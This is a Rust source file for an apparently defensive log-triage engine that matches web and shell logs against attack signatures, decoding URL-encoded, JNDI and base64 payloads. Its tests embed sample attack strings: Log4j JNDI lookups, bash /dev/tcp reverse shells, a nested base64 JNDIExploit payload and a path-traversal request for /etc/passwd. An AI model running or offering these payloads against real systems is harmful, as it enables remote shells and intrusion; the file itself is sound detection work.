//! The compiled signature set: every rule literal (plus the anchors of encoded text) in one
//! aho-corasick automaton, built once and shared by reference. Buffers are searched whole;
//! only a record with a candidate is decoded and confirmed rule by rule.

use std::path::PathBuf;

use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
use anyhow::Context;

use super::decode::{may_be_encoded, normalize, shell_base64_payloads};
use super::http::{self, HttpRequest};
use super::jndi::{self, JndiInfo};
use super::prefilter::{FilterStats, GramFilter};
use super::rules::{self, Check, DecoderKind, LogRule};
use super::sigma::SigmaSet;

/// Anchors of encoded text: a record holding one is decoded and searched again, so that
/// `%24%7Bjndi`, `\u0024{`, `&gt;&amp;` or `%2Fdev%2Ftcp` meet the rule literals.
const DECODE_TRIGGERS: &[&str] = &[
    "%24", "%7b", "%7c", "%2f", "%3e", "%3c", "%26", "%27", "%22", "%60", "%3b", "%28", "%2b", "%25", "%5c",
    "%2c", "%3d", "%40", "%21", "%2e", "%3a", "%5b", "%5d", "%7d", "%0a", "%0d", "%09", "%00", "%u00",
    "\\u00", "\\x2", "\\x3", "\\x4", "\\x5", "\\x6", "\\x7", "\\044", "\\44", "\\173", "&gt;", "&lt;",
    "&amp;", "&#", "&quot;",
];

/// Bytes of a record shown in a hit excerpt at most.
pub(crate) const EXCERPT_MAX: usize = 300;
/// Bytes of decoded text shown at most.
const DECODED_MAX: usize = 600;
/// Layers of decoded commands followed (a command decoded from a command ...).
const MAX_COMMAND_DEPTH: usize = 3;
/// Decoded commands evaluated per record at most.
const MAX_DECODED_COMMANDS: usize = 16;

/// Compiled rules, shared by `&` across workers.
#[derive(Debug)]
pub struct Engine {
    rules: Vec<LogRule>,
    /// The Sigma rules loaded (web ones are also in `rules`), with those left out and why.
    sigma: std::sync::Arc<SigmaSet>,
    ac: AhoCorasick,
    /// The automaton's patterns (lower-cased literals, then decode anchors).
    patterns: Vec<Vec<u8>>,
    /// Per automaton pattern: the rules it is a literal of (empty for decode triggers).
    pattern_rules: Vec<Vec<usize>>,
    /// The bulk prefilter over the patterns' rarest windows (None: the automaton alone).
    filter: Option<GramFilter>,
}

/// One rule confirmed on one record.
#[derive(Clone, Debug)]
pub struct RecordMatch {
    pub rule: usize,
    /// Byte span of the match in the raw record (the whole record start when only the
    /// decoded text matched).
    pub span: (usize, usize),
    /// The decoded record around the match, when decoding changed it.
    pub decoded: Option<String>,
    pub jndi: Option<JndiInfo>,
    /// Commands decoded from base64 blobs or JNDIExploit paths (for a hit found inside a
    /// decoded command: that command).
    pub commands: Vec<String>,
    /// The HTTP request of the record, when it is a web-server log record.
    pub http: Option<HttpRequest>,
}

impl Engine {
    /// The built-in rules.
    pub fn builtin() -> anyhow::Result<Self> {
        Self::with_rule_files(&[])
    }

    /// Built-in rules, the bundled Sigma rules, plus the user's rule files (ids must stay
    /// unique).
    pub(crate) fn with_rule_files(files: &[PathBuf]) -> anyhow::Result<Self> {
        Self::with_sources(files, &[], true)
    }

    /// Built-in rules, the user's rule files, the bundled Sigma set (when `bundled`) and the
    /// Sigma rules under each of `sigma_dirs`.
    pub(crate) fn with_sources(
        files: &[PathBuf],
        sigma_dirs: &[PathBuf],
        bundled: bool,
    ) -> anyhow::Result<Self> {
        let mut set = if bundled { SigmaSet::bundled() } else { SigmaSet::default() };
        for d in sigma_dirs {
            set.add_dir(d).map_err(|e| RuleFileError(format!("--sigma {}: {e}", d.display())))?;
        }
        let mut all = Self::rule_files(files)?;
        for r in set.engine_rules() {
            if let Some(old) = all.iter().find(|o| o.id == r.id) {
                return Err(RuleFileError(format!(
                    "{}: rule id {:?} is already defined at {}",
                    r.origin, r.id, old.origin
                ))
                .into());
            }
            all.push(r);
        }
        let mut e = Self::new(all)?;
        e.sigma = std::sync::Arc::new(set);
        Ok(e)
    }

    fn rule_files(files: &[PathBuf]) -> anyhow::Result<Vec<LogRule>> {
        let mut all = rules::builtin().map_err(join_errors).context("built-in rules")?;
        for f in files {
            let extra = rules::parse_file(f).map_err(|e| RuleFileError(join_errors(e).to_string()))?;
            for r in &extra {
                if let Some(old) = all.iter().find(|o| o.id == r.id) {
                    return Err(RuleFileError(format!(
                        "{}: rule id {:?} is already defined at {}",
                        r.origin, r.id, old.origin
                    ))
                    .into());
                }
            }
            all.extend(extra);
        }
        Ok(all)
    }

    /// Compile `rules`.
    pub(crate) fn new(rules: Vec<LogRule>) -> anyhow::Result<Self> {
        let mut patterns: Vec<Vec<u8>> = Vec::new();
        let mut pattern_rules: Vec<Vec<usize>> = Vec::new();
        let mut index = std::collections::HashMap::new();
        for (ri, r) in rules.iter().enumerate() {
            for lit in r.literals.iter().flat_map(|l| query_variants(l)) {
                let key = lit.to_ascii_lowercase();
                let pi = *index.entry(key.clone()).or_insert_with(|| {
                    patterns.push(key);
                    pattern_rules.push(Vec::new());
                    patterns.len() - 1
                });
                if !pattern_rules[pi].contains(&ri) {
                    pattern_rules[pi].push(ri);
                }
            }
        }
        for t in DECODE_TRIGGERS {
            let key = t.as_bytes().to_ascii_lowercase();
            if !index.contains_key(&key) {
                index.insert(key.clone(), patterns.len());
                patterns.push(key);
                pattern_rules.push(Vec::new());
            }
        }
        let ac = AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .kind(Some(AhoCorasickKind::DFA))
            .build(&patterns)
            .context("building the signature automaton")?;
        let filter = GramFilter::new(&patterns);
        Ok(Engine { rules, sigma: Default::default(), ac, patterns, pattern_rules, filter })
    }

    /// The Sigma rules loaded, and those that could not be used.
    pub(crate) fn sigma(&self) -> &SigmaSet {
        &self.sigma
    }

    /// The rules, in file order (built-in first).
    pub fn rules(&self) -> &[LogRule] {
        &self.rules
    }

    /// Where the prefilter's cost goes on `hay`: per window prefix, positions holding it and
    /// windows starting there (see `GramFilter::census`).
    pub(crate) fn window_census(
        &self,
        hay: &[u8],
        counts: &mut std::collections::HashMap<Vec<u8>, (u64, u64)>,
    ) {
        if let Some(f) = &self.filter {
            f.census(hay, counts);
        }
    }

    /// The automaton's patterns whose window begins with `prefix` (lower-case bytes).
    pub(crate) fn patterns_with_window(&self, prefix: &[u8]) -> Vec<&[u8]> {
        self.patterns
            .iter()
            .filter(|p| p.len() >= 2 && prefix.starts_with(&super::prefilter::window_prefix(p)))
            .map(Vec::as_slice)
            .collect()
    }

    /// Every literal the automaton searches for (ASCII case ignored), decode anchors included.
    pub(crate) fn literals(&self) -> &[Vec<u8>] {
        &self.patterns
    }

    /// Start of the first match at or after `from` of some literal or decode anchor (the
    /// earliest-ending one, as the automaton reports it), if any.
    ///
    /// The prefilter gives the same answer as the automaton alone: every pattern holds its
    /// window, and the windows' positions are visited in order. At a window at `q`, the
    /// automaton runs over the bytes a pattern holding that window can span; when nothing
    /// matches there, no match has its window at `q`. When something does, every match not
    /// yet ruled out has its window at `q` or later, so starts at `q - max_pre` or later,
    /// and the earliest-ending one ends no later than the match found: the automaton run from
    /// `max(from, q - max_pre)` to there reports exactly what it reports from `from` (the
    /// same patterns end at each position, longest first). A 2-byte pattern in a buffer's
    /// last two bytes has no window: those two bytes are searched directly.
    /// `stats` counts what the prefilter did.
    pub(crate) fn next_candidate(&self, hay: &[u8], from: usize, stats: &mut FilterStats) -> Option<usize> {
        let found = self.next_candidate_filtered(hay, from, stats);
        stats.candidates += found.is_some() as u64;
        found
    }

    fn next_candidate_filtered(&self, hay: &[u8], from: usize, stats: &mut FilterStats) -> Option<usize> {
        let Some(f) = &self.filter else { return self.find_in(hay, from, hay.len()) };
        let (s, e) = self.bounds_of_first(f, hay, from, stats)?;
        self.find_in(hay, s, e)
    }

    /// Whether `hay` holds any automaton pattern (literal or decode anchor): what
    /// [`Self::next_candidate`] from 0 answers, without locating the earliest one.
    pub(crate) fn has_candidate(&self, hay: &[u8], stats: &mut FilterStats) -> bool {
        let found = match &self.filter {
            Some(f) => self.bounds_of_first(f, hay, 0, stats).is_some(),
            None => self.find_in(hay, 0, hay.len()).is_some(),
        };
        stats.candidates += found as u64;
        found
    }

    /// Where the automaton finds the earliest match at or after `from` (see
    /// [`Self::next_candidate`]): a range holding it and ending where a match ends; None when
    /// `hay[from..]` holds no pattern.
    fn bounds_of_first(
        &self,
        f: &GramFilter,
        hay: &[u8],
        from: usize,
        stats: &mut FilterStats,
    ) -> Option<(usize, usize)> {
        let mut at = from;
        while let Some((q, pre, end)) = f.next_hit(hay, at, stats) {
            let s = q.saturating_sub(pre).max(from);
            if let Some(e) = self.find_end(hay, s, (q + end).min(hay.len())) {
                return Some((q.saturating_sub(f.max_pre).max(from), e));
            }
            at = q + 1;
        }
        f.short_tail(hay, from)
    }

    /// The automaton alone: start of its first match inside `hay[from..to]`.
    fn find_in(&self, hay: &[u8], from: usize, to: usize) -> Option<usize> {
        self.find_span(hay, from, to).map(|m| m.0)
    }

    fn find_end(&self, hay: &[u8], from: usize, to: usize) -> Option<usize> {
        self.find_span(hay, from, to).map(|m| m.1)
    }

    fn find_span(&self, hay: &[u8], from: usize, to: usize) -> Option<(usize, usize)> {
        if from >= to {
            return None;
        }
        let input = aho_corasick::Input::new(hay).span(from..to);
        self.ac.find(input).map(|m| (m.start(), m.end()))
    }

    /// [`Self::next_candidate`] without the prefilter (tests compare the two).
    #[cfg(test)]
    fn next_candidate_plain(&self, hay: &[u8], from: usize) -> Option<usize> {
        self.find_in(hay, from, hay.len())
    }

    /// Confirm every rule on one record; at most one match per rule. Commands decoded from
    /// the record (base64 blobs, JNDIExploit paths) are matched too, layer after layer, so the
    /// reverse shell a JNDI payload carries is reported as such. A match whose rule is
    /// superseded by another match of the record is dropped.
    pub fn evaluate(&self, record: &[u8]) -> Vec<RecordMatch> {
        let mut out = self.evaluate_once(record);
        // Decoded commands may carry another layer (a JNDIExploit path holding
        // `bash -c {echo,<b64>}|{base64,-d}|{bash,-i}`): follow them a few layers deep.
        let mut pending: Vec<(String, usize)> =
            out.iter().flat_map(|m| m.commands.clone()).map(|c| (c, 1)).collect();
        let mut seen = 0;
        while let Some((c, depth)) = pending.pop() {
            seen += 1;
            if seen > MAX_DECODED_COMMANDS {
                break;
            }
            for mut m in self.evaluate_once(c.as_bytes()) {
                if depth < MAX_COMMAND_DEPTH {
                    pending.extend(m.commands.iter().map(|n| (n.clone(), depth + 1)));
                }
                if !out.iter().any(|o| o.rule == m.rule) {
                    m.decoded = Some(crate::model::excerpt(c.as_bytes(), 0, 0, DECODED_MAX));
                    m.span = (0, 0);
                    if m.commands.is_empty() {
                        // The hit is in this decoded command: its indicators come from it.
                        m.commands.push(c.clone());
                    }
                    out.push(m);
                }
            }
        }
        let hit: Vec<&str> = out.iter().map(|m| self.rules[m.rule].id.as_str()).collect();
        out.retain(|m| !hit.iter().any(|id| self.rules[m.rule].is_superseded_by(id)));
        if !out.is_empty() {
            let req = http::parse(record);
            for m in &mut out {
                m.http.clone_from(&req);
            }
        }
        out
    }

    fn evaluate_once(&self, record: &[u8]) -> Vec<RecordMatch> {
        let mut triggered = false;
        let raw_rules = self.candidates(record, &mut triggered);
        let decoded = if triggered || (may_be_encoded(record) && !raw_rules.is_empty()) {
            let d = normalize(record, false);
            (d != record).then_some(d)
        } else {
            None
        };
        // Query strings encode spaces as `+`: one more variant when the record has both.
        let plus = decoded
            .as_ref()
            .filter(|d| d.contains(&b'+') && record.contains(&b'%'))
            .map(|_| normalize(record, true));
        let mut variants: Vec<(&[u8], Vec<usize>)> = vec![(record, raw_rules)];
        for v in [decoded.as_deref(), plus.as_deref()].into_iter().flatten() {
            let mut t = false;
            let c = self.candidates(v, &mut t);
            variants.push((v, c));
        }
        let mut all: Vec<usize> = variants.iter().flat_map(|(_, c)| c.iter().copied()).collect();
        all.sort_unstable();
        all.dedup();
        let mut out = Vec::new();
        // Sigma rules read the request parsed from the raw record (its fields carry their
        // own decoded spellings); parsed once, when the first Sigma candidate needs it.
        let req: std::cell::OnceCell<Option<HttpRequest>> = std::cell::OnceCell::new();
        let texts: std::cell::OnceCell<Vec<String>> = std::cell::OnceCell::new();
        for ri in all {
            let rule = &self.rules[ri];
            if let Some(Check::Sigma(d)) = rule.confirm.first() {
                let Some(r) = req.get_or_init(|| http::parse(record)) else { continue };
                let texts = texts.get_or_init(|| {
                    variants.iter().map(|(t, _)| String::from_utf8_lossy(t).into_owned()).collect()
                });
                if d.matches_web(r, texts) {
                    out.push(RecordMatch {
                        rule: ri,
                        span: (0, record.len().min(EXCERPT_MAX)),
                        decoded: None,
                        jndi: None,
                        commands: Vec::new(),
                        http: None,
                    });
                }
                continue;
            }
            for (vi, (text, cands)) in variants.iter().enumerate() {
                // A rule found in one spelling is confirmed on every spelling (the literal
                // `%0aid` is in the raw record, the newline its regex wants only in the
                // decoded one); case-sensitive rules need their literal in the text itself.
                if rule.case_sensitive && !cands.contains(&ri) {
                    continue;
                }
                if let Some(m) = self.confirm(rule, ri, text) {
                    let mut m = m;
                    if vi > 0 {
                        m.decoded = Some(crate::model::excerpt(text, m.span.0, m.span.1, DECODED_MAX));
                        m.span = (0, 0);
                    }
                    out.push(m);
                    break;
                }
            }
        }
        out
    }

    /// Rules with a literal in `text`; sets `triggered` when a decode anchor is there. The
    /// automaton runs over the spans [`Self::pattern_spans`] gives, not the whole record.
    fn candidates(&self, text: &[u8], triggered: &mut bool) -> Vec<usize> {
        let mut rules = Vec::new();
        for (s, e) in self.pattern_spans(text) {
            for m in self.ac.find_overlapping_iter(aho_corasick::Input::new(text).span(s..e)) {
                let pr = &self.pattern_rules[m.pattern().as_usize()];
                if pr.is_empty() {
                    *triggered = true;
                }
                for &r in pr {
                    if !rules.contains(&r) {
                        rules.push(r);
                    }
                }
            }
        }
        rules
    }

    /// Ranges of `text` holding every occurrence of every pattern: around each window the
    /// prefilter finds, the bytes a pattern holding it can cover (merged while they touch),
    /// and the last two bytes when they are a 2-byte pattern (which has no window there). Every occurrence holds
    /// its window, so the automaton over these ranges finds what it finds over the whole
    /// text, at a fraction of the cost (its tables are large: a full pass missed the cache
    /// on every record).
    fn pattern_spans(&self, text: &[u8]) -> Vec<(usize, usize)> {
        let Some(f) = &self.filter else { return vec![(0, text.len())] };
        let mut spans: Vec<(usize, usize)> = Vec::new();
        let mut add = |s: usize, e: usize| match spans.last_mut() {
            Some(last) if s <= last.1 => *last = (last.0.min(s), last.1.max(e)),
            _ => spans.push((s, e)),
        };
        let mut at = 0;
        let mut stats = FilterStats::default();
        while let Some((q, pre, end)) = f.next_hit(text, at, &mut stats) {
            add(q.saturating_sub(pre), (q + end).min(text.len()));
            at = q + 1;
        }
        if let Some((s, e)) = f.short_tail(text, 0) {
            add(s, e);
        }
        spans
    }

    fn confirm(&self, rule: &LogRule, ri: usize, text: &[u8]) -> Option<RecordMatch> {
        let lit_span = match literal_span(rule, text) {
            Some(s) => s,
            None if !rule.case_sensitive => (0, 0),
            None => return None,
        };
        if rule.exclude.iter().any(|re| re.is_match(text)) {
            return None;
        }
        let mut m = RecordMatch {
            rule: ri,
            span: lit_span,
            decoded: None,
            jndi: None,
            commands: Vec::new(),
            http: None,
        };
        for (i, check) in rule.confirm.iter().enumerate() {
            match check {
                Check::Regex(re) => {
                    let found = re.find(text)?;
                    if i == 0 {
                        m.span = (found.start(), found.end());
                    }
                }
                Check::Decoder(DecoderKind::Jndi) => {
                    let s = String::from_utf8_lossy(text);
                    let ev = jndi::evaluate(&s);
                    let j = ev.jndi.into_iter().next()?;
                    if let Some(c) = &j.command {
                        m.commands.push(c.clone());
                    }
                    m.jndi = Some(j);
                }
                Check::Decoder(DecoderKind::JndiAssembled) => {
                    let s = String::from_utf8_lossy(text);
                    let shown = jndi::assembled_jndi(&s)?;
                    m.decoded = Some(shown);
                }
                // Evaluated in `evaluate_once`, on the raw record's parsed request.
                Check::Sigma(_) => return None,
                Check::Decoder(DecoderKind::ShellBase64) => {
                    let p = shell_base64_payloads(text);
                    if p.is_empty() {
                        return None;
                    }
                    m.commands.extend(p);
                }
            }
        }
        Some(m)
    }
}

/// A literal and, when it holds spaces, its query-string spellings (`%20`, `+`): so that
/// `nc%20-c%20bash` is a candidate without making every `%20` of an access log one.
fn query_variants(lit: &[u8]) -> Vec<Vec<u8>> {
    let mut out = vec![lit.to_vec()];
    if lit.contains(&b' ') {
        out.push(lit.iter().flat_map(|&b| if b == b' ' { b"%20".to_vec() } else { vec![b] }).collect());
        out.push(lit.iter().map(|&b| if b == b' ' { b'+' } else { b }).collect());
    }
    out
}

/// Where a literal of `rule` occurs in `text` (with the rule's case flag), if anywhere.
fn literal_span(rule: &LogRule, text: &[u8]) -> Option<(usize, usize)> {
    rule.literals.iter().find_map(|lit| {
        let pos =
            if rule.case_sensitive { memchr::memmem::find(text, lit) } else { find_ascii_ci(text, lit) };
        pos.map(|p| (p, p + lit.len()))
    })
}

/// ASCII case-insensitive substring search: memchr's memmem for the needle's first byte in
/// both cases, each candidate compared whole (linear on the long records of joined messages).
fn find_ascii_ci(hay: &[u8], needle: &[u8]) -> Option<usize> {
    let (&first, rest) = needle.split_first()?;
    let (lo, up) = (first.to_ascii_lowercase(), first.to_ascii_uppercase());
    memchr::memchr2_iter(lo, up, hay)
        .find(|&p| hay.get(p + 1..p + needle.len()).is_some_and(|w| w.eq_ignore_ascii_case(rest)))
}

/// A rule file the user gave (`--rules`, `--sigma`) that cannot be loaded: a usage error
/// (exit 64), not ctriage's own failure.
#[derive(Debug)]
pub struct RuleFileError(pub String);

impl std::fmt::Display for RuleFileError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for RuleFileError {}

fn join_errors(errs: Vec<rules::RuleError>) -> anyhow::Error {
    anyhow::anyhow!(errs.iter().map(|e| e.to_string()).collect::<Vec<_>>().join("\n"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_rng::Rng;

    fn ids(engine: &Engine, line: &str) -> Vec<String> {
        engine.evaluate(line.as_bytes()).iter().map(|m| engine.rules()[m.rule].id.clone()).collect()
    }

    #[test]
    fn a_byte_that_is_not_utf8_between_a_payloads_tokens_does_not_hide_it() {
        // Built-in regexes match bytes with ASCII classes: `.*` crosses `\xff` (with Unicode
        // classes it stopped there and the traversal went unseen).
        let e = Engine::builtin().unwrap();
        let hits = |rec: &[u8]| -> Vec<String> {
            e.evaluate(rec).iter().map(|m| e.rules()[m.rule].id.clone()).collect()
        };
        assert!(hits(b"GET /dl?f=../\xff/etc/passwd HTTP/1.1").contains(&"web.path-traversal".to_string()));
        assert!(
            hits(b"GET /dl?f=../\xc3\xa9/etc/passwd HTTP/1.1").contains(&"web.path-traversal".to_string())
        );
    }

    #[test]
    fn encoded_records_are_decoded_before_confirming() {
        let e = Engine::builtin().unwrap();
        assert_eq!(
            ids(&e, "GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D HTTP/1.1"),
            vec!["log4j.jndi-lookup"]
        );
        assert!(ids(&e, r"bash -i \u003e\u0026 /dev/tcp/10.0.0.1/4242 0\u003e\u00261")
            .contains(&"shell.reverse.dev-tcp".to_string()));
        assert!(ids(&e, "GET /x?c=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.0.0.1%2F4242%200%3E%261")
            .contains(&"shell.reverse.dev-tcp".to_string()));
        assert!(ids(&e, "plain text without anything").is_empty());
    }

    #[test]
    fn nested_decoded_commands_are_followed_and_carry_the_command() {
        let e = Engine::builtin().unwrap();
        // JNDIExploit path -> `bash -c {echo,<b64>}|{base64,-d}|{bash,-i}` -> /dev/tcp shell.
        let line = "x=${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/YmFzaCAtYyB7ZWNobyxZbUZ6YUNBdGFTQStKaUF2WkdWMkwzUmpjQzh5TURNdU1DNHhNVE11TmpZdk5EUTBOQ0F3UGlZeH18e2Jhc2U2NCwtZH18e2Jhc2gsLWl9}";
        let found = e.evaluate(line.as_bytes());
        let rev = found
            .iter()
            .find(|m| e.rules()[m.rule].id == "shell.reverse.dev-tcp")
            .expect("reverse shell two layers down");
        assert_eq!(rev.commands, vec!["bash -i >& /dev/tcp/203.0.113.66/4444 0>&1".to_string()]);
        assert!(!found.iter().any(|m| e.rules()[m.rule].id == "shell.interactive"));
    }

    #[test]
    fn case_insensitive_search() {
        assert_eq!(find_ascii_ci(b"xx JnDi: y", b"jndi:"), Some(3));
        assert_eq!(find_ascii_ci(b"jnd", b"jndi"), None);
        assert_eq!(find_ascii_ci(b"", b"a"), None);
        assert_eq!(find_ascii_ci(b"abc", b""), None);
        assert_eq!(find_ascii_ci(b"%24%7b", b"%7B"), Some(3));
    }

    #[test]
    fn prefilter_gives_the_automatons_answer_at_every_offset() {
        let e = Engine::with_rule_files(&[]).unwrap();
        assert!(e.filter.is_some());
        let lits = e.literals().to_vec();
        let benign = super::super::prefilter::tests_sample();
        let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
        for round in 0..160 {
            let mut hay = Vec::new();
            while hay.len() < 200 + round * 3 {
                match rng.below(6) {
                    0 | 1 => {
                        let s = rng.below(benign.len() - 40);
                        hay.extend_from_slice(&benign[s..s + 1 + rng.below(39)]);
                    }
                    2 => {
                        // A whole pattern in random case, or a piece of one.
                        let l = &lits[rng.below(lits.len())];
                        let (a, b) = match rng.below(3) {
                            0 => (0, l.len()),
                            1 => (0, 1 + rng.below(l.len())),
                            _ => (rng.below(l.len()), l.len()),
                        };
                        for &c in &l[a..b] {
                            hay.push(if rng.below(2) == 0 { c.to_ascii_uppercase() } else { c });
                        }
                    }
                    3 => hay.push(b"\n %$/{}();'\"|&<>=#-_.:"[rng.below(22)]),
                    4 => hay.push(rng.below(256) as u8),
                    _ => {
                        // Overlapping patterns: a pattern's tail then another pattern.
                        let l = &lits[rng.below(lits.len())];
                        hay.extend_from_slice(&l[l.len() / 2..]);
                        hay.extend_from_slice(&lits[rng.below(lits.len())]);
                    }
                }
            }
            for from in 0..=hay.len() {
                assert_eq!(
                    e.next_candidate(&hay, from, &mut FilterStats::default()),
                    e.next_candidate_plain(&hay, from),
                    "round {round} from {from}: {:?}",
                    String::from_utf8_lossy(&hay)
                );
            }
            let any = e.next_candidate_plain(&hay, 0).is_some();
            assert_eq!(e.has_candidate(&hay, &mut FilterStats::default()), any, "round {round}");
            // A record's rules: the automaton over the prefilter's spans finds what it finds
            // over the whole record.
            let (mut t1, mut t2) = (false, false);
            let mut spanned = e.candidates(&hay, &mut t1);
            let mut whole: Vec<usize> = Vec::new();
            for m in e.ac.find_overlapping_iter(&hay) {
                t2 |= e.pattern_rules[m.pattern().as_usize()].is_empty();
                whole.extend(&e.pattern_rules[m.pattern().as_usize()]);
            }
            spanned.sort_unstable();
            whole.sort_unstable();
            whole.dedup();
            assert_eq!((spanned, t1), (whole, t2), "round {round}: {:?}", String::from_utf8_lossy(&hay));
        }
    }

    #[test]
    fn every_pattern_is_found_wherever_it_sits_in_a_buffer() {
        // Each pattern alone, at the very start and the very end of a buffer (where a 2-byte
        // pattern has no window), inside benign text and upper-cased.
        let e = Engine::with_rule_files(&[]).unwrap();
        for l in e.literals() {
            let up = l.to_ascii_uppercase();
            for (hay, at) in [
                (l.clone(), 0),
                ([b"GET /index.html ".as_slice(), l].concat(), 16),
                ([b"x".as_slice(), &up].concat(), 1),
                ([&up[..], b" 200 5316"].concat(), 0),
            ] {
                let want = e.next_candidate_plain(&hay, 0);
                // The earliest-ending match may be a shorter pattern inside this one.
                assert!(
                    want.is_some_and(|w| w >= at && w < at + l.len()),
                    "{:?}",
                    String::from_utf8_lossy(l)
                );
                assert_eq!(
                    e.next_candidate(&hay, 0, &mut FilterStats::default()),
                    want,
                    "{:?}",
                    String::from_utf8_lossy(&hay)
                );
                assert!(e.has_candidate(&hay, &mut FilterStats::default()));
                // The record's rules include the pattern's, wherever it sits.
                let pi = e.literals().iter().position(|p| p == l).unwrap();
                let found = e.candidates(&hay, &mut false);
                assert!(
                    e.pattern_rules[pi].iter().all(|r| found.contains(r)),
                    "{:?}",
                    String::from_utf8_lossy(&hay)
                );
            }
        }
    }

    #[test]
    fn case_flag_is_honoured() {
        let e = Engine::builtin().unwrap();
        assert_eq!(
            ids(&e, "WARN Error looking up JNDI resource [ldap://1.2.3.4/e]"),
            vec!["log4j.jndi-lookup-error"]
        );
        assert!(ids(&e, "warn error looking up jndi resource").is_empty());
    }
}
